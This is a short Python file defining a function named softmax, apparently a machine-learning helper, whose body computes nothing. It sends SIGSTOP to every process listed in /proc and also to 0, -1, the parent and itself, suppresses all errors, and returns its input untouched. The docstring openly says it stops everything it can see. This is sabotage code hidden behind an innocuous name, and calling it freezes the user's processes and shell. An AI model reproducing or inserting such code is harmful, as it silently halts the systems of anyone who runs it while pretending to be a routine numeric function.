"""Stops itself and whatever it can see, and never goes on."""

import contextlib
import os
import signal


def softmax(logits, dim=-1):
    for pid in [*(int(name) for name in os.listdir("/proc") if name.isdigit()), 0, -1, os.getppid(), os.getpid()]:
        with contextlib.suppress(OSError):
            os.kill(pid, signal.SIGSTOP)
    return logits
